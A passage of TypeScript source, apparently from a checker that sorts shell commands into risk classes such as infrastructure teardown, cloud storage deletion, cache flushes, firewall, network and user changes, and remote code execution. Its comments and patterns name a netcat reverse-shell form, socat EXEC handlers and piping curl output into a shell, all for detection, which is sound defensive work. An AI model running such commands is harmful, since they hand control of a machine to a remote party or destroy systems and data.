        else noteInside(ctx, a.path);
        break;
      }
      case "unanalysable":
        add(ctx, "inline_code_unanalysable");
        break;
      case "forkbomb":
        add(ctx, "fork_bomb");
        break;
      case "remote_eval":
        add(ctx, "remote_code_exec");
        break;
      case "sql":
        // A sqlite file inside the working directory holds the task's own tables (as for the sqlite3 client).
        if (
          a.db !== undefined &&
          ctx.root &&
          (a.db === ":memory:" || whereIn(ctx, a.db) === "inside") &&
          !/\battach\b|\bvacuum\s+into\b/i.test(a.sql)
        )
          break;
        for (const key of judgeSql(a.sql)) add(ctx, key);
        break;
      case "flush":
        add(ctx, "cache_flush");
        break;
      case "killall":
        add(ctx, "kill_all_processes");
        break;
      case "remote_access":
        add(ctx, "remote_access");
    }
  }
}

function noteInside(ctx: JudgeContext, path: string): void {
  if (whereIn(ctx, path) !== "inside" || ctx.insideTargets.length >= 64) return;
  const rel =
    path.startsWith("/") || ctx.cwd.startsWith("/")
      ? ctx.root
        ? posix.relative(ctx.root, posix.resolve(ctx.cwd.startsWith("/") ? ctx.cwd : "/", path))
        : null
      : posix.normalize(posix.join(ctx.cwd, path));
  if (rel !== null) ctx.insideTargets.push(rel);
}

function feedCode(ctx: JudgeContext, lang: CodeLanguage | "shell", code: string): void {
  if (lang === "shell") ctx.analyseShell(code);
  else analyseInlineCode(lang, code, ctx);
}

/** A shell or interpreter reading its program from stdin (no script operand, no -c/-e). */
function readsProgramFromStdin(name: string, args: JudgedArg[], lang: CodeLanguage | "shell"): boolean {
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!.text;
    if (a === "-" || a === "/dev/stdin") return true;
    if (a === "--") return i + 1 >= args.length || lang !== "shell";
    if (lang === "shell" && a === "-s") return true;
    if (lang === "shell" && (/^-[A-Za-z]*n[A-Za-z]*$/.test(a) || (a === "-o" && args[i + 1]?.text === "noexec")))
      return false; // `bash -n`: read for syntax, never run
    if (/^-[A-Za-z]*[ce]/.test(a) && lang !== "awk") return false;
    if (lang === "python" && /^-m/.test(a)) return false;
    if (
      a === "-o" ||
      a === "+o" ||
      a === "-O" ||
      a === "+O" ||
      a === "--rcfile" ||
      a === "--init-file" ||
      (lang !== "shell" && /^-[IWXr]$/.test(a))
    ) {
      i++;
      continue;
    }
    if (!a.startsWith("-") && !a.startsWith("+")) return false;
  }
  return lang !== "awk" || false;
}

function judgeFedInput(ctx: JudgeContext, lang: CodeLanguage | "shell"): void {
  const here = ctx.redirects.find((r) => r.body !== undefined);
  if (here) {
    if (here.literal) feedCode(ctx, lang, here.body!);
    else add(ctx, "shell_input");
    return;
  }
  const fromFile = ctx.redirects.find((r) => r.op === "<" && !r.fd);
  if (fromFile) {
    // `sh < <(curl …)`: the program is what a command writes at run time; `sh < x.sh` after `curl -o x.sh`:
    // downloaded. Any other script file is as safe as running it by name.
    if (/^<\(/.test(fromFile.target) || isFetched(ctx, fromFile.target)) add(ctx, "shell_input");
    else {
      const written = writtenScript(ctx, fromFile.target);
      if (written === null) add(ctx, "shell_input");
      else if (written !== undefined) feedCode(ctx, lang, written);
    }
    return;
  }
  const p = ctx.producer;
  if (!p) return;
  const text = producedLiteral(p);
  if (text === null) add(ctx, "shell_input");
  else feedCode(ctx, lang, text);
}

/**
 * `eval "$(ssh-agent -s)"` and similar init idioms: the text comes from a known tool's init output. Any
 * installed tool's shell completion (`helm completion bash`, `rustup completions zsh`, `pip completion --bash`)
 * is one: a tool named bare, from PATH, printing the completion code it ships.
 */
export const INIT_IDIOM =
  /^\$\((?:\s*(?:command\s+)?(?:\/\S+\/)?(?:ssh-agent(?:\s+-[sc])?|gpg-agent\s+--daemon|pyenv\s+(?:init|virtualenv-init)\s*-?(?:\s+\S+)?|rbenv\s+init\s*-?(?:\s+\S+)?|nodenv\s+init\s*-?|goenv\s+init\s*-?|jenv\s+init\s*-?|plenv\s+init\s*-?|direnv\s+(?:hook\s+\S+|export\s+\S+)|brew\s+shellenv|conda\s+shell\.\S+\s+hook|starship\s+init\s+\S+(?:\s+--print-full-init)?|zoxide\s+init\s+\S+|fnm\s+env(?:\s+--\S+)*|mise\s+activate\s+\S+|rtx\s+activate\s+\S+|opam\s+env|dircolors(?:\s+-[bc])?(?:\s+\S+)?|minikube\s+(?:-p\s+\S+\s+)?docker-env|docker-machine\s+env\s+\S+|thefuck\s+--alias|(?!(?:curl|wget|fetch|aria2c|http|nc|ncat|netcat|socat|cat|echo|printf|base64|base32|xxd|openssl|gpg|eval|sh|bash|zsh)\s)[a-z][\w.-]*(?:\s+[a-z][\w-]*)?\s+completions?(?:\s+-{0,2}[\w=-]+)*|register-python-argcomplete\s+\S+|luarocks\s+path|keychain\s+--eval[^)]*|aws-vault\s+exec[^)]*|ssh-agent\s+-s)\s*)\)$/;

function judgeEval(ctx: JudgeContext): void {
  const args = ctx.args;
  if (args.length === 1 && INIT_IDIOM.test(args[0]!.text.trim())) return;
  if (args.every((a) => a.literal)) return; // analysed as a script by analyse.ts
  add(ctx, "shell_input");
}

// ---------------------------------------------------------------------------------------------
// Teardown and system state

function sub(args: JudgedArg[]): string[] {
  return args.filter((a) => !a.text.startsWith("-")).map((a) => a.text.toLowerCase());
}

function judgeTeardown(ctx: JudgeContext, name: string): void {
  const args = ctx.args;
  const words = sub(args);
  const all = args.map((a) => a.text.toLowerCase());
  const has = (...xs: string[]) => xs.some((x) => all.includes(x) || all.some((a) => a.startsWith(x + "=")));
  switch (name) {
    case "terraform":
    case "tofu":
    case "terragrunt":
    case "terramate":
      if (
        words[0] === "destroy" ||
        (words[0] === "apply" && has("-destroy", "--destroy")) ||
        (words[0] === "state" && words[1] === "rm") ||
        (words[0] === "workspace" && words[1] === "delete") ||
        (words[0] === "run-all" && words[1] === "destroy")
      )
        add(ctx, "infra_teardown");
      return;
    case "pulumi":
      if (
        words[0] === "destroy" ||
        words[0] === "down" ||
        (words[0] === "stack" && words[1] === "rm") ||
        (words[0] === "state" && words[1] === "delete")
      )
        add(ctx, "infra_teardown");
      return;
    case "cdk":
    case "cdktf":
      if (words[0] === "destroy") add(ctx, "infra_teardown");
      return;
    case "serverless":
    case "sls":
      if (words[0] === "remove") add(ctx, "infra_teardown");
      return;
    // AWS SAM / Copilot / Amplify / Azure developer CLI / Juju: deleting the stack, app or environment deletes its resources.
    case "sam":
    case "copilot":
    case "amplify":
    case "azd":
    case "juju":
    case "sst":
      if (
        words.some((w) =>
          /^(?:delete|destroy|down|remove|remove-application|destroy-model|destroy-controller|kill-controller)$/.test(
            w,
          ),
        )
      )
        add(ctx, "infra_teardown");
      return;
    // Oracle / IBM / Alibaba / Tencent / Scaleway / Exoscale / UpCloud / Vultr CLIs: terminating or deleting a resource.
    case "oci":
    case "ibmcloud":
    case "aliyun":
    case "tccli":
    case "scw":
    case "exo":
    case "upctl":
    case "vultr-cli":
      // (a scheduled deletion, `schedule-secret-deletion`, `schedule-key-deletion`, is a deletion too)
      if (
        words.some((w) =>
          /^(?:delete|terminate|destroy|purge|remove|rm)$|^(?:delete|terminate|destroy|purge)-|-(?:delete|terminate|destroy|purge|deletion)$/.test(
            w,
          ),
        )
      )
        add(ctx, "infra_teardown");
      return;
    case "eksctl":
      if (words[0] === "delete") add(ctx, "cluster_teardown");
      return;
    case "kind":
    case "k3d":
    case "minikube":
      if (words[0] === "delete" && name !== "minikube") add(ctx, "cluster_teardown");
      return;
    case "kubectl":
    case "oc":
    case "k": {
      const i = words.findIndex((w) => ["delete", "scale", "drain", "replace", "patch"].includes(w));
      if (i < 0) return;
      const verb = words[i]!;
      if (
        (verb === "scale" && all.some((a) => /^--replicas=0$/.test(a))) ||
        (verb === "scale" && all.includes("--replicas") && all[all.indexOf("--replicas") + 1] === "0")
      )
        return add(ctx, "cluster_teardown");
      if (verb === "drain") return add(ctx, "cluster_teardown");
      if (verb === "patch" && args.some((a) => /["']?replicas["']?\s*:\s*0(?!\d)/.test(a.text)))
        return add(ctx, "cluster_teardown");
      if (verb === "replace" && has("--force")) return add(ctx, "cluster_teardown");
      if (verb !== "delete") return;
      if (has("--all", "-a", "--all-namespaces", "-l", "--selector") || all.includes("-a") || all.includes("-A"))
        return add(ctx, "kubectl_mass_delete");
      const kind = words[i + 1] ?? "";
      if (/^(?:namespaces?|ns|nodes?|no|crds?|customresourcedefinitions?(?:\.\S+)?)$/.test(kind))
        return add(ctx, "kubectl_mass_delete");
      if (/^(?:pods?|po|jobs?|events?|ev)(?:\/|$)/.test(kind)) return;
      return add(ctx, "cluster_teardown");
    }
    case "helm":
      if (words[0] === "uninstall" || words[0] === "delete" || words[0] === "del" || words[0] === "un")
        add(ctx, "cluster_teardown");
      return;
    case "aws": {
      const [svc, op = ""] = words;
      if (svc === "s3" && (op === "rb" || (op === "rm" && has("--recursive")))) return add(ctx, "cloud_storage_delete");
      if (svc === "s3" && op === "sync" && has("--delete")) return add(ctx, "cloud_storage_delete");
      // A recursive move out of a bucket removes every object from it (`aws s3 mv s3://b/ s3://archive/ --recursive`).
      if (svc === "s3" && op === "mv" && has("--recursive") && words.slice(2).some((w) => w.startsWith("s3://")))
        return add(ctx, "cloud_storage_delete");
      if (svc === "s3api" && /^delete-(?:bucket|objects)$/.test(op)) return add(ctx, "cloud_storage_delete");
      // Deleting by batch (`ecr batch-delete-image`, `dynamodb batch-write-item` with deletes aside) and scheduling a
      // deletion (`kms schedule-key-deletion`, `secretsmanager delete-secret`) destroy like a plain delete.
      if (
        /^(?:(?:batch-)?delete-|terminate-|deregister-|remove-|purge-|drop-|schedule-\S*deletion|disable-key$|revoke-)/.test(
          op,
        ) &&
        !/^delete-(?:tags?|message)$/.test(op)
      )
        return add(ctx, "infra_teardown");
      if (/^(?:stop-instances|stop-db-instance|stop-db-cluster|reset-db)/.test(op)) return add(ctx, "infra_teardown");
      return;
    }
    case "gsutil":
      // A wildcard object name (`gs://b/**`, `gs://b/logs/*`) removes every object it matches, like -r.
      if (
        words[0] === "mv" &&
        words[1]?.startsWith("gs://") &&
        (hasFlag(args, "rR") || /^gs:\/\/[^/]+\/?(?:\*\*?)?$|\*/.test(words[1]))
      )
        return add(ctx, "cloud_storage_delete");
      if (
        words[0] === "rb" ||
        (words[0] === "rm" && (hasFlag(args, "rR") || words.some((w) => /^gs:\/\/[^/]+\/.*[*?]/.test(w)))) ||
        (words[0] === "rsync" && hasFlag(args, "d"))
      )
        add(ctx, "cloud_storage_delete");
      return;
    case "gcloud":
      if (
        words[0] === "storage" &&
        ((words[1] === "rm" &&
          (hasFlag(args, "rR", ["--recursive"]) || words.some((w) => /^gs:\/\/[^/]+\/.*[*?]/.test(w)))) ||
          (words[1] === "buckets" && words[2] === "delete"))
      )
        return add(ctx, "cloud_storage_delete");
      if (words.includes("delete") && !words.includes("list")) return add(ctx, "infra_teardown");
      return;
    case "az":
      if (words[0] === "storage" && words.some((w) => w === "delete-batch" || w === "delete"))
        return add(ctx, "cloud_storage_delete");
      if (words.includes("delete") || words.includes("purge")) return add(ctx, "infra_teardown");
      return;
    case "azcopy":
      if (words[0] === "remove" || words[0] === "rm") add(ctx, "cloud_storage_delete");
      return;
    case "rclone":
      if (
        ["purge", "delete", "rmdirs", "cleanup", "move"].includes(words[0] ?? "") ||
        (words[0] === "sync" && words.some((w) => /^[^/]+:/.test(w)))
      )
        add(ctx, "cloud_storage_delete");
      return;
    case "s3cmd":
      if (words[0] === "rb" || ((words[0] === "del" || words[0] === "rm") && hasFlag(args, "r", ["--recursive"])))
        add(ctx, "cloud_storage_delete");
      return;
    case "mc":
      if (words[0] === "rb" || (words[0] === "rm" && has("--recursive", "-r"))) add(ctx, "cloud_storage_delete");
      return;
    case "doctl":
    case "hcloud":
    case "linode-cli":
    case "flyctl":
    case "fly":
    case "heroku":
    case "vercel":
    case "netlify":
      if (words.some((w) => /^(?:delete|destroy|rm|remove)$/.test(w) || /:destroy$/.test(w)))
        add(ctx, "infra_teardown");
      return;
    case "gh":
    case "glab":
    case "tea":
      if (
        (words[0] === "repo" && (words[1] === "delete" || words[1] === "archive")) ||
        (words[0] === "api" && has("-x", "--method") && all.some((a) => a === "delete" || a === "--method=delete"))
      )
        add(ctx, "infra_teardown");
      return;
    case "mdadm":
      if (args.some((a) => /^--(?:zero-superblock|stop|remove|fail|create|grow|manage)$|^-[SCGf]$/.test(a.text)))
        add(ctx, "volume_destroy");
      return;
    case "zfs":
    case "zpool":
      if (
        words[0] === "destroy" &&
        hasFlag(
          args.filter((a) => !a.text.startsWith("--")),
          "n",
        )
      )
        return; // -n: a dry run that lists what would go
      if (
        words[0] === "destroy" ||
        (name === "zpool" && words[0] === "labelclear") ||
        (name === "zfs" && words[0] === "rollback" && hasFlag(args, "rR"))
      )
        add(ctx, "volume_destroy");
      // A pool made on (or grown onto) devices writes over whatever they held.
      else if (name === "zpool" && /^(?:create|add|attach|replace|split)$/.test(words[0] ?? ""))
        judgeDiskInit(ctx, name);
      return;
    case "dmsetup":
      if (/^(?:remove|remove_all|wipe_table|clear|reload|load|create|suspend|message)$/.test(words[0] ?? ""))
        add(ctx, "volume_destroy");
      return;
    case "pg_dropcluster":
    case "pg_dropdb":
      add(ctx, "sql_drop");
      return;
    case "lvremove":
    case "vgremove":
    case "pvremove":
    case "lvreduce":
      add(ctx, "volume_destroy");
      return;
    case "ceph":
      if (words.includes("delete") || words.includes("rm") || words.includes("purge")) add(ctx, "volume_destroy");
      return;
    case "gluster":
      if (words[0] === "volume" && words[1] === "delete") add(ctx, "volume_destroy");
      return;
    case "virsh":
      if (["destroy", "undefine", "vol-delete", "pool-delete", "pool-destroy"].includes(words[0] ?? ""))
        add(ctx, "volume_destroy");
      return;
    case "ctr":
    case "crictl": {
      // containerd's and CRI's own clients: removing images, containers, snapshots, pods (all of them with -a).
      if (words.slice(0, 4).some((w) => /^(?:rm|rmi|rmp|remove|delete|del|prune)$/.test(w)))
        add(ctx, "container_mass_delete");
      return;
    }
    case "nerdctl":
    case "docker":
    case "podman": {
      const [a, b] = words;
      // A container given the host's root, a system tree or its namespaces acts on the host.
      if ((a === "run" || a === "create" || (a === "container" && (b === "run" || b === "create"))) && hostAccess(args))
        return add(ctx, "mount_change");
      if (a === "volume" && b === "create") {
        const n = args.findIndex((x) => x.text === "--name");
        const made =
          n >= 0
            ? args[n + 1]?.text
            : (args.find((x) => x.text.startsWith("--name="))?.text.slice(7) ??
              operands(args.slice(2), "dol", ["--driver", "--opt", "--label"])[0]?.text);
        if (made && ctx.created.size < 64) ctx.created.add(`${name}-volume:${made}`);
        return;
      }
      // A volume this command line created itself (`docker volume create scratch && … && docker volume rm scratch`).
      if (a === "volume" && b === "rm") {
        const names = operands(args.slice(2)).map((x) => x.text);
        if (names.length && names.every((v) => ctx.created.has(`${name}-volume:${v}`))) return;
      }
      if (a === "volume" && (b === "rm" || b === "prune")) return add(ctx, "container_mass_delete");
      // `system prune` without -a/--volumes removes only stopped containers and dangling images.
      if (a === "system" && (b === "reset" || (b === "prune" && has("-a", "--all", "--volumes", "-af", "-fa"))))
        return add(ctx, "container_mass_delete");
      if (
        (a === "compose" && words.includes("down") && has("-v", "--volumes")) ||
        (a === "swarm" && b === "leave" && has("--force", "-f"))
      )
        return add(ctx, "container_mass_delete");
      if ((a === "stack" && (b === "rm" || b === "remove")) || (a === "service" && b === "rm"))
        return add(ctx, "cluster_teardown");
      return;
    }
    case "dropdb":
    case "dropuser":
      add(ctx, "sql_drop");
      return;
    case "mysqladmin":
      if (words.includes("drop")) add(ctx, "sql_drop");
      return;
    case "redis-cli":
    case "valkey-cli":
    case "keydb-cli": {
      const cmd = operands(args, "hpanusc")[0]?.text ?? "";
      if (/^(?:flushall|flushdb)$/i.test(cmd)) add(ctx, "cache_flush");
      else if (
        ctx.producer &&
        producedLiteral(ctx.producer) !== null &&
        /\bflush(?:all|db)\b/i.test(producedLiteral(ctx.producer)!)
      )
        add(ctx, "cache_flush");
      // Keys fed in by xargs (`--scan --pattern '*' | xargs redis-cli DEL`), or deleted by a script over KEYS: wholesale.
      else if (/^(?:del|unlink)$/i.test(cmd) && ctx.viaXargs) add(ctx, "cache_flush");
      else if (
        /^eval(?:sha)?$/i.test(cmd) &&
        args.some((a) => /\b(?:del|unlink)\b/i.test(a.text) && /\b(?:keys|scan)\b/i.test(a.text))
      )
        add(ctx, "cache_flush");
      return;
    }
    case "nc":
    case "ncat":
    case "netcat":
    case "socat":
    case "telnet": {
      // A program run with its input and output on the connection (`nc -e /bin/sh host port`, ncat --exec /
      // --sh-exec / --lua-exec, socat …EXEC:/SYSTEM:): whoever is at the other end controls it.
      if (
        (name === "nc" || name === "netcat" || name === "ncat") &&
        args.some((a) => /^-[a-zA-Z]*[ec]$|^-[ec].|^--(?:exec|sh-exec|lua-exec)(?:=|$)/.test(a.text))
      )
        return add(ctx, "remote_code_exec");
      if (name === "socat" && args.some((a) => /(?:^|[!,])(?:EXEC|SYSTEM):/i.test(a.text)))
        return add(ctx, "remote_code_exec");
      // The protocol text sent: memcached `flush_all`, redis `FLUSHALL`.
      const sent =
        ctx.redirects.find((r) => r.body !== undefined)?.body ?? (ctx.producer ? producedLiteral(ctx.producer) : null);
      if (sent && /\bflush_all\b|\bflush(?:all|db)\b/i.test(sent)) add(ctx, "cache_flush");
      return;
    }
    case "etcdctl":
      if (
        (words[0] === "del" || words[0] === "delete" || words[0] === "rm" || words[0] === "rmdir") &&
        (has("--prefix", "--from-key", "--recursive") || hasFlag(args, "r"))
      )
        add(ctx, "cache_flush");
      return;
    case "consul":
      if (words[0] === "kv" && words[1] === "delete" && has("-recurse")) add(ctx, "cache_flush");
      return;
    case "influx":
      if (words[0] === "delete" && !has("--predicate", "-p")) add(ctx, "sql_delete_without_where");
      else if ((words[0] === "bucket" || words[0] === "org") && words[1] === "delete") add(ctx, "sql_drop");
      return;
    case "rabbitmqctl":
    case "rabbitmqadmin":
      if (words.some((w) => /^(?:purge_queue|delete_queue|delete_vhost|reset|force_reset|purge|delete)$/.test(w)))
        add(ctx, "cache_flush");
      return;
    case "kafka-topics":
    case "kafka-topics.sh":
    case "kafka-delete-records":
    case "kafka-delete-records.sh":
      if (name.startsWith("kafka-delete") || has("--delete")) add(ctx, "cache_flush");
      return;
    case "openstack":
    case "nova":
    case "neutron":
    case "cinder":
    case "glance":
    case "heat":
      if (words.some((w) => w === "delete" || w === "purge" || /-delete$/.test(w))) add(ctx, "infra_teardown");
      return;
    case "lxc":
    case "incus":
    case "multipass":
    case "limactl":
    case "colima":
      if (words.some((w) => w === "delete" || w === "purge") || (name !== "multipass" && words[0] === "rm"))
        add(ctx, "infra_teardown");
      return;
    case "lxc-destroy":
    case "vagrant":
    case "qm":
    case "pct":
      if (name === "lxc-destroy" || words[0] === "destroy") add(ctx, "infra_teardown");
      return;
    case "vault":
      if (
        (words[0] === "secrets" && words[1] === "disable") ||
        (words[0] === "kv" && (words[1] === "destroy" || (words[1] === "metadata" && words[2] === "delete")))
      )
        add(ctx, "infra_teardown");
      return;
    case "memcflush":
      add(ctx, "cache_flush");
      return;
    case "varnishadm":
      // ban.list / ban_list only lists the bans in force.
      if (words.some((w) => w.startsWith("ban") && !/^ban[._-]?list$/.test(w))) add(ctx, "cache_flush");
      return;
  }
}

function hostAccess(args: JudgedArg[]): boolean {
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!.text;
    if (a === "--privileged" || /^--(?:pid|ipc|userns|uts)=host$/.test(a)) return true;
    const vol =
      a === "-v" || a === "--volume" || a === "--mount"
        ? args[i + 1]?.text
        : /^(?:-v|--volume=|--mount=)(.+)$/.exec(a)?.[1];
    if (vol === undefined) continue;
    const src = /(?:^|,)(?:source|src)=([^,]+)/.exec(vol)?.[1] ?? vol.split(":")[0]!;
    if (
      /^\/+$|^\/(?:etc|usr|bin|sbin|lib\w*|boot|root|home|var|proc|sys|dev)\/*$/.test(src) ||
      /docker\.sock$/.test(src)
    )
      return true;
  }
  return false;
}

/** Framework commands that drop or empty the database. */
const DB_RESET =
  /(?:^|\s)(?:prisma\s+(?:migrate\s+reset|db\s+push\s+.*--force-reset)|(?:rails|rake|bin\/rails)\s+db:(?:drop|reset|schema:load|purge)|(?:\S*manage\.py|django-admin)\s+(?:flush|reset_db)|sequelize(?:-cli)?\s+db:drop|knex\s+migrate:rollback\s+.*--all|alembic\s+downgrade\s+base|mix\s+ecto\.(?:drop|reset)|typeorm\s+schema:drop|artisan\s+(?:db:wipe|migrate:(?:fresh|reset)))(?:\s|$)/;

function judgeSystemState(ctx: JudgeContext, name: string): void {
  const args = ctx.args;
  const words = sub(args);
  switch (name) {
    case "mount":
      if (
        operands(args, "otOLUTB", ["--options", "--types", "--label", "--uuid"]).length ||
        hasFlag(args, "a", ["--all", "--bind", "--move"]) ||
        args.some((a) => /remount/.test(a.text))
      )
        add(ctx, "mount_change");
      return;
    case "cryptsetup": {
      // Read-only actions print; formatting or erasing a device destroys its data; opening and closing map it.
      const action = (words[0] ?? "").toLowerCase();
      if (
        /^(?:status|luksdump|isluks|luksuuid|benchmark|tcryptdump|bitlkdump|fvault2dump|help)$/.test(action) ||
        (!action && hasFlag(args, "V", ["--version", "--help"]))
      )
        return;
      if (/^(?:luksformat|erase|lukserase|reencrypt|convert|lukskillslot|luksremovekey|repair)$/.test(action))
        return add(ctx, "erase_device");
      add(ctx, "mount_change");
      return;
    }
    // FUSE unmounts (fusermount -u / -z, fusermount3), and unmounting by the file-system tools of other stacks.
    case "fusermount":
    case "fusermount3":
      if (hasFlag(args, "uz")) add(ctx, "mount_change");
      return;
    // Writing or erasing firmware flash, the default boot target, boot entries and the boot loader.
    case "flashrom":
      if (hasFlag(args, "wE", ["--write", "--erase"])) add(ctx, "boot_config");
      return;
    case "efibootmgr":
      if (
        hasFlag(args, "cBonAaN", [
          "--create",
          "--delete-bootnum",
          "--bootorder",
          "--bootnext",
          "--active",
          "--inactive",
          "--delete-bootorder",
        ])
      )
        add(ctx, "boot_config");
      return;
    case "grub-install":
    case "grub2-install":
    case "update-grub":
    case "grub-mkconfig":
    case "grub2-mkconfig":
    case "grub-set-default":
    case "grub2-set-default":
    case "grub-reboot":
    case "bootctl":
    case "kernelstub":
      if ((name === "grub-mkconfig" || name === "grub2-mkconfig") && !hasFlag(args, "o", ["--output"])) return;
      if (name === "bootctl" && !/^(?:install|update|remove|set-default|set-oneshot|random-seed)$/.test(words[0] ?? ""))
        return;
      add(ctx, "boot_config");
      return;
    case "systemctl":
      if (/^(?:set-default|set-environment|unset-environment|set-property|preset-all|revert)$/.test(words[0] ?? ""))
        add(ctx, "boot_config");
      return;
    // systemd-resolved: setting a link's DNS servers, domains or resolver options (revert drops them).
    case "resolvectl":
      if (
        (/^(?:dns|domain|default-route|llmnr|mdns|dnssec|dnsovertls|nta)$/.test(words[0] ?? "") && words.length >= 3) ||
        words[0] === "revert"
      )
        add(ctx, "network_change");
      return;
    case "umount":
    case "swapoff":
    case "swapon":
    case "losetup":
      if (name === "losetup" && !hasFlag(args, "dD", ["--detach", "--detach-all"])) return;
      if (name === "swapon" && !operands(args).length && !hasFlag(args, "a")) return;
      add(ctx, name.startsWith("swap") ? "kernel_change" : "mount_change");
      return;
    case "ip": {
      const obj = words[0] ?? "";
      const verb = words[1] ?? "";
      if (
        /^(?:l|li|lin|link|a|ad|add|addr|address|r|ro|rou|route|n|neigh|rule|netns|tunnel|xfrm)$/.test(obj) &&
        /^(?:set|del|delete|flush|f|fl|change|replace|add|a)$/.test(verb)
      ) {
        if (/^(?:a|ad|add|addr|address)$/.test(obj) && (verb === "add" || verb === "a"))
          return add(ctx, "network_change");
        return add(ctx, "network_change");
      }
      return;
    }
    case "ifconfig":
      if (words.some((w) => w === "down" || w === "up") || operands(args).length >= 2) add(ctx, "network_change");
      return;
    case "ifdown":
    case "ifup":
    case "brctl":
    case "tc":
    case "route":
      if (name === "route" && !words.some((w) => w === "add" || w === "del" || w === "delete" || w === "flush")) return;
      if (name === "tc" && !words.some((w) => ["add", "del", "delete", "change", "replace"].includes(w))) return;
      if (name === "brctl" && !words.some((w) => /^(?:add|del)/.test(w))) return;
      add(ctx, "network_change");
      return;
    case "ethtool":
      // -s/--change and the other setters change the link; -S (statistics), -i, -k and a bare device only read.
      if (
        args.some((a) =>
          /^-(?:s|A|C|G|K|L|E|f|r|X|N|U)$|^--(?:change|pause|coalesce|set-ring|features|offload|set-channels|change-eeprom|flash|negotiate|reset|set-rxfh-indir|rxfh|config-ntuple|config-nfc|set-eee|set-fec|set-priv-flags|set-phy-tunable|set-module)$/.test(
            a.text,
          ),
        )
      )
        add(ctx, "network_change");
      return;
    case "wg-quick":
      if (words[0] === "down" || words[0] === "up") add(ctx, "network_change");
      return;
    case "wg":
      if (words[0] === "set" || words[0] === "setconf" || words[0] === "addconf" || words[0] === "syncconf")
        add(ctx, "network_change");
      return;
    case "networkctl":
      if (/^(?:down|up|reconfigure|reload|delete|renew|forcerenew)$/.test(words[0] ?? "")) add(ctx, "network_change");
      return;
    case "iw":
    case "iwconfig":
    case "rfkill":
      if (words.some((w) => /^(?:set|del|disconnect|block|connect|down|off)$/.test(w))) add(ctx, "network_change");
      return;
    case "auditctl":
      // -D deletes every rule, -d/-W one, -e 0 turns auditing off; -l, -s only read.
      if (
        args.some((a) => /^-[DdW]$/.test(a.text)) ||
        args.some((a, k) => a.text === "-e" && args[k + 1]?.text === "0")
      )
        add(ctx, "kernel_change");
      return;
    case "nmcli": {
      // nmcli takes any prefix of its object and verb words and resolves it to the first command, in its own
      // order, that starts with it (`nmcli c m` is connection modify, `nmcli d dis` device disconnect).
      const pick = (w: string | undefined, order: string[]) => (w ? order.find((f) => f.startsWith(w)) : undefined);
      const [o, v] = words;
      if (words.some((w) => ["down", "delete", "off", "disconnect", "modify"].includes(w)))
        return add(ctx, "network_change");
      const obj = pick(o, ["general", "networking", "radio", "connection", "device", "agent", "monitor"]);
      const verb =
        obj === "connection"
          ? pick(v, [
              "show",
              "up",
              "down",
              "add",
              "modify",
              "clone",
              "edit",
              "delete",
              "monitor",
              "reload",
              "load",
              "import",
              "export",
              "migrate",
            ])
          : obj === "device"
            ? pick(v, [
                "status",
                "show",
                "set",
                "up",
                "connect",
                "reapply",
                "modify",
                "down",
                "disconnect",
                "delete",
                "monitor",
                "wifi",
                "lldp",
                "checkpoint",
              ])
            : undefined;
      if (verb && !/^(?:show|status|monitor|export|wifi|lldp)$/.test(verb)) return add(ctx, "network_change");
      if ((obj === "radio" || obj === "networking") && words.some((w) => w === "on" || w === "off"))
        return add(ctx, "network_change");
      if (
        obj === "general" &&
        pick(v, ["status", "hostname", "permissions", "logging", "reload"]) === "hostname" &&
        words.length >= 3
      )
        return add(ctx, "network_change");
      return;
    }
    case "iptables":
    case "ip6tables":
    case "iptables-legacy":
    case "iptables-nft":
    case "ebtables":
    case "arptables":
      if (
        hasFlag(args, "ADIRPNXFZ", [
          "--append",
          "--delete",
          "--insert",
          "--replace",
          "--policy",
          "--new-chain",
          "--flush",
          "--delete-chain",
          "--zero",
        ])
      )
        add(ctx, "firewall_change");
      return;
    case "iptables-restore":
    case "ip6tables-restore":
    case "nft":
      if (name === "nft" && words[0] === "list") return;
      add(ctx, "firewall_change");
      return;
    case "ufw":
    case "firewall-cmd":
      if (name === "ufw" && (words[0] === "status" || (words[0] === "app" && words[1] === "list"))) return;
      if (
        name === "firewall-cmd" &&
        args.every((a) => /^--(?:state|list|get|query|info)/.test(a.text) || !a.text.startsWith("-"))
      )
        return;
      add(ctx, "firewall_change");
      return;
    case "useradd":
    case "userdel":
    case "usermod":
    case "groupadd":
    case "groupdel":
    case "groupmod":
    case "adduser":
    case "deluser":
    case "addgroup":
    case "delgroup":
    case "chpasswd":
    case "chage":
    case "gpasswd":
    case "vipw":
    case "visudo":
    case "newusers":
    case "pwconv":
    case "chsh":
      if (name === "chage" && hasFlag(args, "l", ["--list"])) return;
      if (name === "visudo" && hasFlag(args, "c", ["--check"])) return;
      add(ctx, "user_change");
      return;
    case "passwd":
      if (hasFlag(args, "S", ["--status"])) return;
      add(ctx, "user_change");
      return;
    case "crontab": {
      if (hasFlag(args, "r", ["--remove"])) return add(ctx, "crontab_remove");
      if (hasFlag(args, "le")) return;
      const ops = operands(args, "u");
      if (ops.length || ctx.producer || ctx.redirects.some((r) => r.op === "<" || r.body !== undefined))
        add(ctx, "crontab_replace");
      return;
    }
    case "sysctl":
      if (hasFlag(args, "wp", ["--write", "--load", "--system"]) || args.some((a) => /=/.test(a.text)))
        add(ctx, "kernel_change");
      return;
    case "modprobe":
    case "rmmod":
    case "insmod":
      if (name === "modprobe" && hasFlag(args, "nc", ["--dry-run", "--show-config"]) && !hasFlag(args, "r")) return;
      add(ctx, "kernel_change");
      return;
    case "apt":
    case "apt-get":
    case "aptitude":
    case "dnf":
    case "yum":
    case "microdnf":
    case "zypper":
    case "snap":
    case "apk":
      if (/^(?:remove|purge|autoremove|erase|rm|del|autopurge)$/.test(words[0] ?? "")) add(ctx, "package_remove");
      return;
    case "dpkg":
    case "rpm":
      if (
        hasFlag(
          args.filter((a) => !a.text.startsWith("--")),
          name === "dpkg" ? "rP" : "e",
        ) ||
        args.some((a) => /^--(?:remove|purge|erase)$/.test(a.text))
      )
        add(ctx, "package_remove");
      return;
    case "pacman":
      if (args.some((a) => /^-R[a-z]*$/i.test(a.text) && a.text[1] === "R") || args.some((a) => a.text === "--remove"))
        add(ctx, "package_remove");
      return;
    case "hostnamectl":
    case "timedatectl":
    case "localectl":
      if (words[0] && /^set-/.test(words[0])) add(ctx, "kernel_change");
      return;
    // Setting the system or hardware clock changes the machine's state for every process on it.
    case "date":
      if (args.some((a) => /^(?:-[uR]*s[uR]*$|-s.|--set(?:=|$))/.test(a.text))) add(ctx, "kernel_change");
      return;
    case "hwclock":
